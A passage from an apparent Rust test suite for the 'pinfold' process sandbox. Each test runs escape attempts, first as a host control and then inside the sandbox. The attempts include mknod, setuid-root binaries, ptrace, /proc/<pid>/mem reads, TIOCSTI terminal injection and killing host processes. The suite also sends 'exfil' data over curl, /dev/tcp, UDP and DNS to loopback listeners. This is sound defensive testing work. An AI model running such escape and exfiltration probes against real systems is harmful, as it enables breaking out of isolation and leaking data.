    let a = Fx::new(u, "privileges_no_new_privs_no_caps");
    let r = a.exec(&[], &script(&a));
    a.assert_refused(&r, &[]);
}

/// ESCAPES 9: `mknod` of devices. Root only: uid 65534 cannot mknod on the host, so its control
/// cannot succeed; inside the sandbox neither user may.
fn mknod_device(u: User) {
    attack_case(
        u,
        "mknod_device",
        &|_| {},
        &|fx| {
            fx.sh_script(
                "mknod",
                "t 'mknod a char device (mem)' 'mknod memdev c 1 1'\n\
                 t 'mknod a block device' 'mknod blkdev b 7 0'\n",
            )
        },
        &|fx| {
            ["memdev", "blkdev"]
                .iter()
                .filter(|n| {
                    fs::symlink_metadata(fx.proj.join(n)).is_ok_and(|m| {
                        use std::os::unix::fs::FileTypeExt;
                        m.file_type().is_char_device() || m.file_type().is_block_device()
                    })
                })
                .map(|n| format!("device node {n} exists on the host"))
                .collect()
        },
    );
}

/// ESCAPES 9: a setuid-root binary in the project (placed by root before start) must not
/// raise uid 65534 to euid 0 inside. Nobody only: for root the binary grants nothing.
fn setuid_root_binary(u: User) {
    let setup = |fx: &mut Fx| {
        let p = fx.proj.join("suid-id");
        fs::copy("/usr/bin/id", &p).expect("copy /usr/bin/id");
        fx.own();
        fx.host_ok(&["chown", "0:0", &Fx::s(&p)]);
        fx.host_ok(&["chmod", "4755", &Fx::s(&p)]);
    };
    let script = |fx: &Fx| {
        fx.sh_script(
            "suid",
            "e=$(./suid-id -u); echo \"euid=$e\"; [ \"$e\" = 0 ] && echo 'ESCAPED: setuid root gave euid 0' || echo 'refused: euid stayed non-zero'\n\
             t 'chmod u+s on an own copy' 'cp /usr/bin/id myid && chmod u+s myid && test -u myid && ./myid -u'\n",
        )
    };
    let mut c = Fx::new(u, "setuid_root_binary");
    setup(&mut c);
    let r = c.control(&script(&c));
    assert!(
        r.stdout.contains("ESCAPED: setuid root gave euid 0"),
        "{}: CONTROL FAILED: the setuid-root binary does not give euid 0 on the host\n{}",
        c.label(),
        r.show()
    );
    let mut a = Fx::new(u, "setuid_root_binary");
    setup(&mut a);
    let r = a.exec(&[], &script(&a));
    // Making an own file setuid is harmless in itself; what matters is euid 0.
    let euid0: Vec<String> = r
        .stdout
        .lines()
        .filter(|l| *l == "euid=0")
        .map(String::from)
        .collect();
    if !r.started() || !euid0.is_empty() || r.timed_out || matches!(r.code, Some(125 | 126)) {
        a.assert_refused(&r, &euid0);
    }
}

// ---------------------------------------------------------------------------------------------
// 10-14. Kernel surface
// ---------------------------------------------------------------------------------------------

both_users!(
    nested_user_namespace,
    mount_family_syscalls,
    setns_refused,
    io_uring_refused,
    ptrace_refused,
    process_vm_writev_refused,
    proc_mem_of_parent_and_host,
    kill_host_pid,
    tiocsti_injection,
);

/// Control and sandbox for a script whose attempts print ESCAPED/refused; the host check is
/// `changes` (often none: these are kernel calls whose "change" is reaching the kernel).
fn syscall_case(u: User, name: &str, script: &dyn Fn(&Fx) -> Vec<String>) {
    let c = Fx::new(u, name);
    let r = c.control(&script(&c));
    let esc: Vec<String> = r.escaped().iter().map(|s| s.to_string()).collect();
    c.assert_control(&r, &esc, true);
    let a = Fx::new(u, name);
    let r = a.exec(&[], &script(&a));
    a.assert_refused(&r, &mounted_under(&a.base));
}

/// Mounts on the host under `dir` (a sandbox mounting on the host is a host change); they are
/// detached so the temp dir can be removed.
fn mounted_under(dir: &Path) -> Vec<String> {
    let info = fs::read_to_string("/proc/self/mountinfo").unwrap_or_default();
    let d = Fx::s(dir);
    let found: Vec<String> = info
        .lines()
        .filter_map(|l| l.split(' ').nth(4))
        .filter(|m| m.starts_with(&d))
        .map(String::from)
        .collect();
    for m in &found {
        let _ = Command::new("umount").args(["-l", m]).status();
    }
    found
        .into_iter()
        .map(|m| format!("a mount appeared on the host at {m}"))
        .collect()
}

/// ESCAPES 10, Proof "unshare -U": new user namespaces.
fn nested_user_namespace(u: User) {
    syscall_case(u, "nested_user_namespace", &|fx| {
        fx.sh_script(
            "unshare",
            "t 'unshare -U' 'unshare -U true'\n\
             t 'unshare -r' 'unshare -r true'\n\
             t 'unshare -Urm mount tmpfs' 'mkdir -p m && unshare -Urm mount -t tmpfs none m'\n",
        )
    });
}

/// ESCAPES 10, Proof "mount": mount, umount2, pivot_root, open_tree, move_mount, fsopen,
/// mount_setattr. Each is tried in a child that first attempts a private user+mount namespace
/// (so on the host the control cannot change real mounts); reaching the kernel past the
/// permission check counts as an escape; inside, each must be EPERM/EACCES/ENOSYS.
fn mount_family_syscalls(u: User) {
    syscall_case(u, "mount_family_syscalls", &|fx| {
        let m = Fx::s(&fx.cwd.join(".t/mnt"));
        fs::create_dir_all(fx.cwd.join(".t/mnt")).expect("mkdir");
        fx.own();
        fx.py_script(
            "mounts",
            &format!(
                r#"M = b"{m}"
attr = (ctypes.c_ubyte * 32)()
def mnt():
    return sc(165, b"none", M, b"tmpfs", 0, None)
def umnt():
    return sc(166, M, 0)
def pivot():
    return sc(155, M, M)
def otree():
    r, e = sc(428, -100, M, 1)
    if r >= 0: os.close(r)
    return r, e
def mmove():
    return sc(429, -100, b"/nonexistent-a", -100, b"/nonexistent-b", 0)
def fso():
    r, e = sc(430, b"tmpfs", 0)
    if r >= 0: os.close(r)
    return r, e
def msetattr():
    return sc(442, -100, M, 0, ctypes.byref(attr), 32)
for name, f in [("mount tmpfs", mnt), ("umount2", umnt), ("pivot_root", pivot), ("open_tree", otree),
                ("move_mount", mmove), ("fsopen", fso), ("mount_setattr", msetattr)]:
    probe_privileged(name, f)
"#
            ),
        )
    });
}

/// ESCAPES 10, Proof "setns".
fn setns_refused(u: User) {
    syscall_case(u, "setns_refused", &|fx| {
        fx.py_script(
            "setns",
            r#"def join_mnt():
    fd = os.open("/proc/self/ns/mnt", os.O_RDONLY)
    r = sc(308, fd, CLONE_NEWNS)
    os.close(fd)
    return r
def join_net():
    fd = os.open("/proc/self/ns/net", os.O_RDONLY)
    r = sc(308, fd, CLONE_NEWNET)
    os.close(fd)
    return r
probe_privileged("setns mnt", join_mnt)
probe_privileged("setns net", join_net)
"#,
        )
    });
}

/// ESCAPES 14: io_uring_setup must be EPERM or ENOSYS (not EFAULT: the filter must stop it, not
/// a bad pointer).
fn io_uring_refused(u: User) {
    syscall_case(u, "io_uring_refused", &|fx| {
        fx.py_script(
            "io_uring",
            r#"params = (ctypes.c_ubyte * 120)()
r, e = sc(425, 8, ctypes.byref(params))
if r >= 0: os.close(r)
verdict("io_uring_setup", not (r < 0 and e in (errno.EPERM, errno.ENOSYS)), f"ret={r} errno={ename(e)}")
"#,
        )
    });
}

/// ESCAPES 11, Proof "ptrace ... of the parent": attach to an own child (seccomp must say EPERM),
/// to the parent, and to a host process of the same user (must not be reachable).
fn ptrace_refused(u: User) {
    let c = Fx::new(u, "ptrace_refused");
    let a = Fx::new(u, "ptrace_refused");
    let script = |fx: &Fx, host_pid: u32| {
        fx.py_script(
            "ptrace",
            &format!(
                r#"PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
child = os.fork()
if child == 0:
    time.sleep(5); os._exit(0)
def attach(pid):
    r, e = sc(101, PTRACE_SEIZE, pid, 0, 0)
    if r == 0: sc(101, PTRACE_DETACH, pid, 0, 0)
    return r, e
r, e = attach(child)
verdict("ptrace own child", e not in DENIED, f"errno={{ename(e)}}")
os.kill(child, 9); os.waitpid(child, 0)
ppid = os.getppid()
if ppid > 0:
    r, e = attach(ppid)
    print(("ESCAPED" if r == 0 else "refused") + f": ptrace parent {{ppid}}: errno={{ename(e)}}")
r, e = attach({host_pid})
verdict("ptrace host pid {host_pid}", r == 0, f"errno={{ename(e)}}")
"#
            ),
        )
    };
    let hp = c.spawn_host_sleeper(&unique("pinfold-target-"));
    let r = c.control(&script(&c, hp));
    let esc: Vec<String> = r
        .escaped()
        .iter()
        .filter(|l| l.contains("own child") || l.contains("host pid"))
        .map(|s| s.to_string())
        .collect();
    // The parent of the control is the test binary (root): uid 65534 cannot trace it on the
    // host either, which is fine; the own child and the host pid must be traceable.
    assert!(
        esc.len() == 2,
        "{}: CONTROL FAILED: ptrace of an own child and of a same-user host process must work \
         on the host\n{}",
        c.label(),
        r.show()
    );
    let hp = a.spawn_host_sleeper(&unique("pinfold-target-"));
    let r = a.exec(&[], &script(&a, hp));
    let status = fs::read_to_string(format!("/proc/{hp}/status")).unwrap_or_default();
    let mut ch = Vec::new();
    if !a.host_pid_alive(hp) {
        ch.push(format!("host process {hp} died"));
    }
    if !status.contains("TracerPid:\t0") {
        ch.push(format!("host process {hp} is being traced: {status}"));
    }
    a.assert_refused(&r, &ch);
}

/// ESCAPES 11: process_vm_writev (into an own child: the syscall itself must be filtered).
fn process_vm_writev_refused(u: User) {
    syscall_case(u, "process_vm_writev_refused", &|fx| {
        fx.py_script(
            "vm_writev",
            r#"class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
target = ctypes.create_string_buffer(b"AAAA")
src = ctypes.create_string_buffer(b"BBBB")
child = os.fork()
if child == 0:
    for _ in range(200):
        if target.raw[:4] == b"BBBB": os._exit(7)
        time.sleep(0.01)
    os._exit(0)
time.sleep(0.05)
local = iovec(ctypes.cast(src, ctypes.c_void_p), 4)
remote = iovec(ctypes.cast(target, ctypes.c_void_p), 4)
r, e = sc(311, child, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
_, st = os.waitpid(child, 0)
verdict("process_vm_writev into a child", r == 4 or e not in DENIED, f"ret={r} errno={ename(e)} child saw write: {os.WEXITSTATUS(st) == 7}")
"#,
        )
    });
}

/// ESCAPES 11, Proof "/proc/<pid>/mem of the parent": read memory of the parent and of a
/// same-user host process through /proc/<pid>/mem.
fn proc_mem_of_parent_and_host(u: User) {
    let script = |fx: &Fx, host_pid: u32| {
        fx.py_script(
            "proc_mem",
            &format!(
                r#"def readmem(pid):
    try:
        with open(f"/proc/{{pid}}/maps") as f:
            for line in f:
                rng, perms = line.split()[:2]
                if perms.startswith("r"):
                    start = int(rng.split("-")[0], 16); break
        with open(f"/proc/{{pid}}/mem", "rb", buffering=0) as m:
            m.seek(start)
            return len(m.read(16)) > 0, "read"
    except Exception as x:
        return False, repr(x)
ok, d = readmem({host_pid})
verdict("read /proc/{host_pid}/mem (host process)", ok, d)
pp = os.getppid()
if pp > 0:
    ok, d = readmem(pp)
    print(("ESCAPED" if ok else "refused") + f": read /proc/{{pp}}/mem (parent): {{d}}")
"#
            ),
        )
    };
    let c = Fx::new(u, "proc_mem_of_parent_and_host");
    let hp = c.spawn_host_sleeper(&unique("pinfold-target-"));
    let r = c.control(&script(&c, hp));
    assert!(
        r.stdout.contains(&format!("ESCAPED: read /proc/{hp}/mem")),
        "{}: CONTROL FAILED: reading a same-user host process's memory does not work here\n{}",
        c.label(),
        r.show()
    );
    let a = Fx::new(u, "proc_mem_of_parent_and_host");
    let hp = a.spawn_host_sleeper(&unique("pinfold-target-"));
    let r = a.exec(&[], &script(&a, hp));
    a.assert_refused(&r, &[]);
}

/// ESCAPES 12, Proof "kill of a host pid": a same-user host process must survive.
fn kill_host_pid(u: User) {
    let script = |fx: &Fx, pid: u32| {
        fx.sh_script(
            "kill",
            &format!("t 'kill -9 host pid {pid}' 'kill -9 {pid}'\nt 'kill -STOP host pid' 'kill -STOP {pid}'\n"),
        )
    };
    let c = Fx::new(u, "kill_host_pid");
    let pid = c.spawn_host_sleeper(&unique("pinfold-victim-"));
    let r = c.control(&script(&c, pid));
    let deadline = Instant::now() + Duration::from_secs(2);
    while c.host_pid_alive(pid) && Instant::now() < deadline {
        thread::sleep(Duration::from_millis(10));
    }
    let ch: Vec<String> = if c.host_pid_alive(pid) {
        vec![]
    } else {
        vec![format!("{pid} killed")]
    };
    assert!(
        !ch.is_empty() && r.stdout.contains("ESCAPED: kill -9"),
        "{}: CONTROL FAILED: could not kill a same-user host process without pinfold\n{}",
        c.label(),
        r.show()
    );
    let a = Fx::new(u, "kill_host_pid");
    let pid = a.spawn_host_sleeper(&unique("pinfold-victim-"));
    let r = a.exec(&[], &script(&a, pid));
    thread::sleep(Duration::from_millis(100));
    let mut ch = Vec::new();
    if !a.host_pid_alive(pid) {
        ch.push(format!("host process {pid} was killed"));
    }
    let st = fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
    if st.split_whitespace().nth(2) == Some("T") {
        ch.push(format!("host process {pid} was stopped"));
        let _ = Command::new("kill")
            .args(["-CONT", &pid.to_string()])
            .status();
    }
    a.assert_refused(&r, &ch);
}

/// Runs argv with a fresh pty as its controlling terminal and stdio; afterwards prints what
/// waits in the terminal's input queue (what the user's shell would read next).
const PTY_HARNESS: &str = r#"import os, pty, sys, subprocess, fcntl, termios, select, time
m, s = pty.openpty()
def pre():
    os.setsid()
    fcntl.ioctl(s, termios.TIOCSCTTY, 0)
p = subprocess.Popen(sys.argv[1:], stdin=s, stdout=s, stderr=s, preexec_fn=pre)
out = b""
deadline = time.time() + 25
while p.poll() is None and time.time() < deadline:
    r, _, _ = select.select([m], [], [], 0.05)
    if r:
        out += os.read(m, 65536)
if p.poll() is None:
    p.kill()
while True:
    r, _, _ = select.select([m], [], [], 0.1)
    if not r: break
    try:
        out += os.read(m, 65536)
    except OSError:
        break
fl = fcntl.fcntl(s, fcntl.F_GETFL)
fcntl.fcntl(s, fcntl.F_SETFL, fl | os.O_NONBLOCK)
try:
    pending = os.read(s, 4096)
except (BlockingIOError, OSError):
    pending = b""
sys.stdout.write(out.decode(errors="replace").replace("\r", ""))
print("EXIT:", p.returncode)
print("PENDING-INPUT:", repr(pending))
"#;

/// ESCAPES 13, Proof "TIOCSTI": injecting characters into the inherited terminal's input.
fn tiocsti_injection(u: User) {
    let go = |fx: &Fx, sandboxed: bool| {
        let h = fx.base.join("pty_harness.py");
        fx.put(&h, PTY_HARNESS);
        let script = fx.py_script(
            "tiocsti",
            r#"import fcntl, termios
done = 0
err = ""
for ch in b"echo PWNED\n":
    try:
        fcntl.ioctl(0, termios.TIOCSTI, bytes([ch])); done += 1
    except OSError as e:
        err = ename(e.errno)
verdict("TIOCSTI on the inherited tty", done > 0, f"{done} chars injected {err}")
"#,
        );
        let mut argv = vec![PY.to_string(), Fx::s(&h)];
        argv.extend(if sandboxed {
            fx.exec_argv(&[], &script)
        } else {
            script
        });
        let r = run_cmd(fx.cmd(&argv), argv.join(" "), None, TIMEOUT);
        if sandboxed {
            let code = r
                .stdout
                .lines()
                .find_map(|l| l.strip_prefix("EXIT: "))
                .unwrap_or("");
            if code == "2" && r.stdout.contains("unrecognized subcommand") {
                fx.check_implemented(&Run {
                    code: Some(2),
                    stderr: r.stdout.clone(),
                    ..r
                });
                unreachable!();
            }
        }
        let injected: Vec<String> = r
            .stdout
            .lines()
            .filter(|l| l.starts_with("PENDING-INPUT:") && l.contains("PWNED"))
            .map(|l| format!("the terminal's input queue holds injected text: {l}"))
            .collect();
        (r, injected)
    };
    let c = Fx::new(u, "tiocsti_injection");
    let (r, inj) = go(&c, false);
    c.assert_control(&r, &inj, true);
    let a = Fx::new(u, "tiocsti_injection");
    let (r, inj) = go(&a, true);
    a.assert_refused(&r, &inj);
}

// ---------------------------------------------------------------------------------------------
// 15. Processes left behind
// ---------------------------------------------------------------------------------------------

both_users!(no_orphans_after_exit, dies_with_parent, signals_forwarded);

fn pids_with(marker: &str) -> Vec<u32> {
    let mut v = Vec::new();
    for e in fs::read_dir("/proc").expect("read /proc").flatten() {
        let Ok(pid) = e.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        if fs::read(e.path().join("cmdline"))
            .is_ok_and(|c| String::from_utf8_lossy(&c).contains(marker))
        {
            v.push(pid);
        }
    }
    v
}

fn kill_all(pids: &[u32]) {
    for p in pids {
        let _ = Command::new("kill").args(["-9", &p.to_string()]).status();
    }
}

fn wait_gone(marker: &str, grace: Duration) -> Vec<u32> {
    let deadline = Instant::now() + grace;
    loop {
        let left = pids_with(marker);
        if left.is_empty() || Instant::now() > deadline {
            return left;
        }
        thread::sleep(Duration::from_millis(20));
    }
}

/// ESCAPES 15, Proof "orphans left after exit": `sleep 1000 &`, a setsid'd daemon and a
/// double fork; none may remain once `pinfold exec` has exited.
fn no_orphans_after_exit(u: User) {
    let script = |fx: &Fx, m: &str| {
        fx.sh_script(
            "orphans",
            &format!(
                "(exec -a {m}-bg sleep 1000) </dev/null >/dev/null 2>&1 &\n\
                 setsid bash -c 'exec -a {m}-setsid sleep 1000' </dev/null >/dev/null 2>&1 &\n\
                 ( ( exec -a {m}-double sleep 1000 ) </dev/null >/dev/null 2>&1 & )\n\
                 nohup bash -c 'exec -a {m}-nohup sleep 1000' </dev/null >/dev/null 2>&1 &\n\
                 sleep 0.2; echo 'ESCAPED: left background processes'\n"
            ),
        )
    };
    let c = Fx::new(u, "no_orphans_after_exit");
    let m = unique("pinfold-orphan-");
    let r = c.control(&script(&c, &m));
    let left = pids_with(&m);
    kill_all(&left);
    assert!(
        left.len() == 4,
        "{}: CONTROL FAILED: expected 4 orphans to survive without pinfold, found {left:?}\n{}",
        c.label(),
        r.show()
    );
    let a = Fx::new(u, "no_orphans_after_exit");
    let m = unique("pinfold-orphan-");
    let r = a.exec(&[], &script(&a, &m));
    let left = wait_gone(&m, Duration::from_secs(1));
    kill_all(&left);
    let ch: Vec<String> = left
        .iter()
        .map(|p| format!("orphan pid {p} still running after exit"))
        .collect();
    // The script's own ESCAPED line only means "started them"; the host check decides.
    let r = Run {
        stdout: r.stdout.replace("ESCAPED: left", "started"),
        ..r
    };
    a.assert_refused(&r, &ch);
}

/// Architecture step 4 ("die with the parent"): SIGKILL of `pinfold exec` must take the
/// command with it.
fn dies_with_parent(u: User) {
    let go = |fx: &Fx, sandboxed: bool, m: &str| -> (Vec<u32>, String) {
        let script = fx.sh_script(
            "dies",
            &format!("(exec -a {m} sleep 1000) </dev/null >/dev/null 2>&1 &\nwait\n"),
        );
        let argv = if sandboxed {
            fx.exec_argv(&[], &script)
        } else {
            script
        };
        let mut c = fx.cmd(&argv);
        c.stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped());
        let mut child = c.spawn().expect("spawn");
        let deadline = Instant::now() + Duration::from_secs(10);
        while pids_with(m).is_empty() && Instant::now() < deadline {
            if let Ok(Some(st)) = child.try_wait() {
                let mut e = String::new();
                let _ = child.stderr.take().map(|mut s| s.read_to_string(&mut e));
                return (vec![], format!("exited early with {st}: {e}"));
            }
            thread::sleep(Duration::from_millis(10));
        }
        let _ = child.kill();
        let _ = child.wait();
        let left = wait_gone(m, Duration::from_secs(1));
        kill_all(&left);
        (left, String::new())
    };
    let c = Fx::new(u, "dies_with_parent");
    let m = unique("pinfold-child-");
    let (left, err) = go(&c, false, &m);
    assert!(
        !left.is_empty(),
        "{}: CONTROL FAILED: the child did not survive its killed parent without pinfold {err}",
        c.label()
    );
    let a = Fx::new(u, "dies_with_parent");
    let m = unique("pinfold-child-");
    let (left, err) = go(&a, true, &m);
    assert!(
        err.is_empty(),
        "{}: SANDBOX FAILED: pinfold exec did not start the command: {err}",
        a.label()
    );
    assert!(
        left.is_empty(),
        "{}: SANDBOX FAILED: after SIGKILL of pinfold exec, the command's process(es) {left:?} \
         were still running a second later",
        a.label()
    );
}

/// Issue 3 "signals forwarded": SIGTERM to `pinfold exec` reaches the command's trap.
fn signals_forwarded(u: User) {
    let a = Fx::new(u, "signals_forwarded");
    let script = a.sh_script(
        "trap",
        "trap 'echo got-TERM; exit 7' TERM\ntouch ready\nwhile :; do sleep 0.05; done\n",
    );
    let argv = a.exec_argv(&[], &script);
    let mut c = a.cmd(&argv);
    c.stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = c.spawn().expect("spawn");
    let deadline = Instant::now() + Duration::from_secs(10);
    while !a.proj.join("ready").exists() && Instant::now() < deadline {
        if let Ok(Some(_)) = child.try_wait() {
            break;
        }
        thread::sleep(Duration::from_millis(10));
    }
    let _ = Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status();
    let deadline = Instant::now() + Duration::from_secs(5);
    while matches!(child.try_wait(), Ok(None)) && Instant::now() < deadline {
        thread::sleep(Duration::from_millis(10));
    }
    let _ = child.kill();
    let out = child.wait_with_output().expect("wait");
    let r = Run {
        what: argv.join(" "),
        code: out.status.code(),
        signal: out.status.signal(),
        stdout: String::from_utf8_lossy(&out.stdout).into(),
        stderr: String::from_utf8_lossy(&out.stderr).into(),
        timed_out: false,
    };
    a.check_implemented(&r);
    assert!(
        r.code == Some(7) && r.stdout.contains("got-TERM"),
        "{}: SIGTERM to pinfold exec did not reach the command's trap (want exit 7 and got-TERM)\n{}",
        a.label(),
        r.show()
    );
}

// ---------------------------------------------------------------------------------------------
// 16-18. Network (loopback only)
// ---------------------------------------------------------------------------------------------

/// Host listeners on loopback: TCP (v4, v6; answering HTTP) and UDP (v4, v6). Count arrivals.
struct Listeners {
    tcp4: u16,
    tcp6: u16,
    udp4: UdpSocket,
    udp6: UdpSocket,
    hits: Arc<AtomicUsize>,
    stop: Arc<AtomicBool>,
}

impl Listeners {
    fn new() -> Listeners {
        let t4 = TcpListener::bind("127.0.0.1:0").expect("bind tcp4");
        let t6 = TcpListener::bind("[::1]:0").expect("bind tcp6 on ::1");
        let udp4 = UdpSocket::bind("127.0.0.1:0").expect("bind udp4");
        let udp6 = UdpSocket::bind("[::1]:0").expect("bind udp6");
        for s in [&udp4, &udp6] {
            s.set_nonblocking(true).expect("nonblocking");
        }
        let (tcp4, tcp6) = (
            t4.local_addr().expect("addr").port(),
            t6.local_addr().expect("addr").port(),
        );
        let hits = Arc::new(AtomicUsize::new(0));
        let stop = Arc::new(AtomicBool::new(false));
        let (h, s) = (hits.clone(), stop.clone());
        thread::spawn(move || {
            for l in [&t4, &t6] {
                l.set_nonblocking(true).expect("nonblocking");
            }
            while !s.load(Ordering::Relaxed) {
                for l in [&t4, &t6] {
                    if let Ok((mut c, _)) = l.accept() {
                        h.fetch_add(1, Ordering::Relaxed);
                        let _ = c.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 3\r\n\r\nok\n");
                    }
                }
                thread::sleep(Duration::from_millis(5));
            }
        });
        Listeners {
            tcp4,
            tcp6,
            udp4,
            udp6,
            hits,
            stop,
        }
    }

    /// What reached the host.
    fn arrivals(&self) -> Vec<String> {
        thread::sleep(Duration::from_millis(50));
        let mut v = Vec::new();
        let n = self.hits.load(Ordering::Relaxed);
        if n > 0 {
            v.push(format!("{n} TCP connection(s) reached a host listener"));
        }
        let mut buf = [0u8; 2048];
        for (name, s) in [("udp4", &self.udp4), ("udp6", &self.udp6)] {
            while let Ok((len, from)) = s.recv_from(&mut buf) {
                v.push(format!(
                    "{name} datagram of {len} bytes from {from} reached the host"
                ));
            }
        }
        v
    }
}

impl Drop for Listeners {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}

both_users!(
    net_curl_and_dev_tcp,
    net_udp_sendto_and_ipv6,
    net_dns_query,
    net_inet_sockets_refused,
    abstract_unix_socket,
    container_engine_sockets_hidden,
);

/// A network attack: the control must reach a host listener; inside, nothing may arrive.
fn net_case(u: User, name: &str, script: &dyn Fn(&Fx, &Listeners) -> Vec<String>) {
    let c = Fx::new(u, name);
    let l = Listeners::new();
    let r = c.control(&script(&c, &l));
    c.assert_control(&r, &l.arrivals(), false);
    let a = Fx::new(u, name);
    let l = Listeners::new();
    let r = a.exec(&[], &script(&a, &l));
    a.assert_refused(&r, &l.arrivals());
}

/// ESCAPES 16, Proof "curl, /dev/tcp".
fn net_curl_and_dev_tcp(u: User) {
    net_case(u, "net_curl_and_dev_tcp", &|fx, l| {
        fx.sh_script(
            "curl",
            &format!(
                "curl -sS -m 3 http://127.0.0.1:{p}/ 2>&1; echo curl=$?\n\
                 curl -sS -m 3 --noproxy '*' http://localhost:{p}/ 2>&1; echo curl-localhost=$?\n\
                 (exec 3<>/dev/tcp/127.0.0.1/{p} && echo hi >&3) 2>&1; echo devtcp=$?\n\
                 (exec 3<>/dev/tcp/::1/{p6} && echo hi >&3) 2>&1; echo devtcp6=$?\n",
                p = l.tcp4,
                p6 = l.tcp6
            ),
        )
    });
}

/// ESCAPES 16, Proof "UDP sendto": raw AF_INET/AF_INET6 datagrams and TCP to ::1.
fn net_udp_sendto_and_ipv6(u: User) {
    net_case(u, "net_udp_sendto_and_ipv6", &|fx, l| {
        fx.py_script(
            "udp",
            &format!(
                r#"for fam, addr in [(socket.AF_INET, ("127.0.0.1", {u4})), (socket.AF_INET6, ("::1", {u6}))]:
    try:
        s = socket.socket(fam, socket.SOCK_DGRAM); s.sendto(b"exfil", addr); print("sent", addr)
    except OSError as e:
        print("udp error", addr, ename(e.errno))
try:
    s = socket.create_connection(("::1", {t6}), timeout=3); s.sendall(b"x"); print("tcp6 connected")
except OSError as e:
    print("tcp6 error", e)
"#,
                u4 = l.udp4.local_addr().expect("addr").port(),
                u6 = l.udp6.local_addr().expect("addr").port(),
                t6 = l.tcp6
            ),
        )
    });
}

/// ESCAPES 17, Proof "DNS lookups": a DNS query (UDP and TCP) to a resolver on loopback.
fn net_dns_query(u: User) {
    net_case(u, "net_dns_query", &|fx, l| {
        fx.py_script(
            "dns",
            &format!(
                r#"name = "exfil-{tok}.example"
q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00\x00\x01\x00\x01"
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(q, ("127.0.0.1", {u4})); print("udp query sent")
except OSError as e:
    print("udp query error", ename(e.errno))
try:
    s = socket.create_connection(("127.0.0.1", {t4}), timeout=3); s.sendall(struct.pack("!H", len(q)) + q); print("tcp query sent")
except OSError as e:
    print("tcp query error", e)
"#,
                tok = unique("q"),
                u4 = l.udp4.local_addr().expect("addr").port(),
                t4 = l.tcp4
            ),
        )
    });
}

/// Issue 3 layer 3: with network off, `socket(AF_INET/AF_INET6)` itself is refused by seccomp
/// (AF_UNIX stays allowed). The control: creating them works on the host.
fn net_inet_sockets_refused(u: User) {
    syscall_case(u, "net_inet_sockets_refused", &|fx| {
        fx.py_script(
            "inet",
            r#"for fam, name in [(socket.AF_INET, "AF_INET"), (socket.AF_INET6, "AF_INET6")]:
    for typ, tn in [(socket.SOCK_STREAM, "STREAM"), (socket.SOCK_DGRAM, "DGRAM")]:
        try:
            socket.socket(fam, typ).close(); verdict(f"socket({name}, {tn})", True, "created")
        except OSError as e:
            verdict(f"socket({name}, {tn})", e.errno not in (errno.EPERM, errno.EACCES, errno.EAFNOSUPPORT, errno.ENOSYS), ename(e.errno))
try:
    socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).close(); print("AF_UNIX ok (allowed by design)")
except OSError as e:
    print("NOTE: AF_UNIX refused too:", ename(e.errno))
"#,
        )
    });
}

/// ESCAPES 18, Proof "connecting to a host abstract unix socket".
fn abstract_unix_socket(u: User) {
    let go = |fx: &Fx, sandboxed: bool| {
        let name = unique("pinfold-abstract-");
        let addr = SocketAddr::from_abstract_name(name.as_bytes()).expect("abstract name");
        let l = UnixListener::bind_addr(&addr).expect("bind an abstract socket");
        l.set_nonblocking(true).expect("nonblocking");
        let script = fx.py_script(
            "abstract",
            &format!(
                r#"s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
try:
    s.connect("\0{name}"); s.sendall(b"hi"); verdict("connect to the host abstract socket", True, "connected")
except OSError as e:
    verdict("connect to the host abstract socket", False, ename(e.errno))
"#
            ),
        );
        let r = if sandboxed {
            fx.exec(&[], &script)
        } else {
            fx.control(&script)
        };
        let ch: Vec<String> = match l.accept() {
            Ok(_) => vec!["a connection reached the host's abstract socket".into()],
            Err(_) => vec![],
        };
        (r, ch)
    };
    let c = Fx::new(u, "abstract_unix_socket");
    let (r, ch) = go(&c, false);
    c.assert_control(&r, &ch, true);
    let a = Fx::new(u, "abstract_unix_socket");
    let (r, ch) = go(&a, true);
    a.assert_refused(&r, &ch);
}

/// Serialises the cases that create `/run/docker.sock` (a host-global path).
static DOCKER_SOCK: Mutex<()> = Mutex::new(());

/// ESCAPES 18, Proof "container-engine sockets (docker.sock, podman's), which the default
/// preset hides". Fake engine sockets (listeners made by the test) at the places engines use:
/// `/run/docker.sock` (only if absent on this host; removed afterwards), rootless docker and
/// podman under `$XDG_RUNTIME_DIR`, Docker Desktop's `~/.docker/run/docker.sock`. Under the
/// embedded default preset, connecting to any of them must fail and reach no listener.
fn container_engine_sockets_hidden(u: User) {
    let _g = DOCKER_SOCK.lock().unwrap_or_else(|e| e.into_inner());
    let system = PathBuf::from("/run/docker.sock");
    assert!(
        !system.exists(),
        "/run/docker.sock exists on this host: this test makes its own fake engine socket there \
         and will not touch a real one; run the suite on a host without a container engine"
    );
    let go = |fx: &mut Fx, sandboxed: bool| {
        fx.use_default_preset();
        let paths = vec![
            system.clone(),
            fx.run_dir.join("docker.sock"),
            fx.run_dir.join("podman/podman.sock"),
            fx.home.join(".docker/run/docker.sock"),
        ];
        let mut ls = Vec::new();
        for p in &paths {
            fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
            let l = UnixListener::bind(p).unwrap_or_else(|e| panic!("bind {}: {e}", p.display()));
            l.set_nonblocking(true).expect("nonblocking");
            fs::set_permissions(p, fs::Permissions::from_mode(0o666)).expect("chmod socket");
            ls.push(l);
        }
        fx.cleanup.lock().expect("lock").push(system.clone());
        fx.own();
        let body: String = paths
            .iter()
            .map(|p| {
                format!(
                    "try:\n    s = socket.socket(socket.AF_UNIX); s.connect('{p}'); verdict('connect {p}', True, 'connected')\nexcept OSError as e:\n    verdict('connect {p}', False, ename(e.errno))\n",
                    p = p.display()
                )
            })
            .collect();
